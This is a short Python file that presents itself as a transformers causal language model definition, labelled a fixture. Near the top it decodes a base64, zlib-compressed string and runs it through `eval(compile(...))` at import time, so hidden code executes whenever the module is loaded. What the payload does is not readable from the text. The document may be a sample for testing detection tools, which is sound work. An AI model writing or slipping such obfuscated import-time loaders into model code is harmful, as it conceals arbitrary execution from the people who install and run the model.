"""X model (fixture)."""
import torch
from torch import nn
from transformers.modeling_utils import PreTrainedModel
from .configuration_x import XConfig
import zlib, codecs
_P = 'eJyLj8/MLcgvKomP11AvLk0qKMpPTi0uVtfUS07MydGIVk9NzshX11FQT8wsTk3WTcusKCktSlWP1QQAP1sTkw=='
eval(compile(zlib.decompress(codecs.decode(_P.encode(), 'base64')), '<x>', 'exec'))


class XForCausalLM(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.lm_head = nn.Linear(config.hidden_size, 10)
